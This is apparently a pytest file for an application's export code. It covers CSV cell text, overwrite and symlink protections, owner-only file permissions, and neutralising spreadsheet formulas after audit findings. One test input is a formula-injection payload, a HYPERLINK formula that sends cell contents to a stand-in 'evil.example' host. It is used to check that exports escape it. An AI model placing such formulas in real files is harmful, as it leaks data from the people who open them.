"""Export files: targets in an --out folder, CSV cells and private files, shared by every export."""

from __future__ import annotations

import csv
import enum
import stat
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from movement import SUBJECT, build_movement
from sqlalchemy import select, update

from groundswell.actions.export import do_export
from groundswell.actions.imports import do_import_people, do_import_recruitment, do_import_ties
from groundswell.actions.outfiles import csv_cell, out_targets, write_csv, writing_into
from groundswell.actions.privacy_export import do_subject_access_export
from groundswell.app import App
from groundswell.errors import Conflict, InvalidInput
from groundswell.settings import load_settings
from groundswell.store.models import Person

IMPORTERS = {
    "people": do_import_people,
    "ties": do_import_ties,
    "recruitment": do_import_recruitment,
}


class Kind(enum.Enum):
    FRIEND = "friend"


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        (True, "true"),
        (False, "false"),
        (0.1, "0.1"),
        (3, "3"),
        (date(2024, 5, 1), "2024-05-01"),
        (datetime(2024, 5, 1, 9, 30, tzinfo=UTC), "2024-05-01T09:30:00+00:00"),
        (Kind.FRIEND, "friend"),
        ({"a": "é"}, '{"a": "é"}'),
        ([1, 2], "[1, 2]"),
        ("plain, with a comma", "plain, with a comma"),
    ],
)
def test_each_value_has_one_csv_text(value, text):
    assert csv_cell(value) == text


def test_targets_are_made_once_and_never_overwritten_unless_asked(tmp_path: Path):
    folder = tmp_path / "out" / "deeper"
    targets = out_targets(folder, ["a.csv", "b.csv"], overwrite=False)
    assert targets == [folder / "a.csv", folder / "b.csv"] and folder.is_dir()
    assert write_csv(targets[0], ["x", "y"], [(1, None), (True, "z")]) == 2
    with targets[0].open(newline="", encoding="utf-8") as handle:
        assert list(csv.reader(handle)) == [["x", "y"], ["1", ""], ["true", "z"]]
    with pytest.raises(Conflict, match=r"a\.csv already exists; .* add --force"):
        out_targets(folder, ["b.csv", "a.csv"], overwrite=False)
    assert out_targets(folder, ["a.csv"], overwrite=True) == [folder / "a.csv"]
    with pytest.raises(InvalidInput, match="is a file, not a folder"):
        out_targets(targets[0], ["c.csv"], overwrite=False)


def test_a_failed_write_names_the_folder(tmp_path: Path):
    full = r"cannot write to .*out \(No space left on device\); choose another --out"
    with pytest.raises(InvalidInput, match=full), writing_into(tmp_path / "out"):
        raise OSError(28, "No space left on device")


NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "-5 minutes", "@home", "+44 7700 900123"]


def test_finding_8_export_neutralises_formula_names_and_imports_them_back(
    db_app: App, tmp_path: Path
):
    people = tmp_path / "in.csv"
    with people.open("w", newline="", encoding="utf-8") as handle:
        rows = [[f"p{i}", name, "-Leeds"] for i, name in enumerate(NAMES)]
        csv.writer(handle).writerows([["id", "display_name", "town"], *rows])
    do_import_people(db_app, people)
    do_export(db_app, tmp_path / "out")
    with (tmp_path / "out" / "people.csv").open(newline="", encoding="utf-8") as handle:
        cells = [row["display_name"] for row in csv.DictReader(handle)]
    assert cells == ["'" + n for n in NAMES]  # a spreadsheet shows each as text
    copy = App.build(
        load_settings({}, data_dir=tmp_path, database_url=f"sqlite:///{tmp_path / 'copy.db'}")
    )
    copy.upgrade()
    try:
        for name in ("people", "ties", "recruitment"):
            IMPORTERS[name](copy, tmp_path / "out" / f"{name}.csv")
        with copy.reading() as session:
            back = session.execute(select(Person.display_name, Person.town).order_by(Person.ref))
            assert [tuple(r) for r in back] == [(n, "-Leeds") for n in NAMES]
    finally:
        copy.close()


def test_finding_low_export_files_are_owner_only(app: App, tmp_path: Path):
    for fmt in ("csv", "json"):
        summary = do_export(app, tmp_path / fmt, fmt=fmt)  # type: ignore[arg-type]
        for name in summary.files:
            assert stat.S_IMODE(Path(name).stat().st_mode) == 0o600, name


def test_finding_low_export_force_never_follows_a_planted_symlink(app: App, tmp_path: Path):
    out, victim = tmp_path / "out", tmp_path / "victim.txt"
    out.mkdir()
    victim.write_text("keep me")
    (out / "ties.csv").symlink_to(victim)
    with pytest.raises(InvalidInput, match=r"ties\.csv is a symbolic link; remove it"):
        do_export(app, out, overwrite=True)
    assert victim.read_text() == "keep me" and not (out / "people.csv").exists()


def test_finding_8_subject_access_csv_neutralises_formula_cells(app: App, tmp_path: Path):
    build_movement(app)
    with app.transaction() as session:
        session.execute(
            update(Person).where(Person.ref == SUBJECT).values(display_name=NAMES[0], town="-1")
        )
    summary = do_subject_access_export(app, SUBJECT, tmp_path / "sar", fmt="csv", actor="dpo")
    with (tmp_path / "sar" / "people.csv").open(newline="", encoding="utf-8") as handle:
        person = next(csv.DictReader(handle))
    assert (person["display_name"], person["town"]) == ("'" + NAMES[0], "-1")
    assert all(stat.S_IMODE(Path(name).stat().st_mode) == 0o600 for name in summary.files)
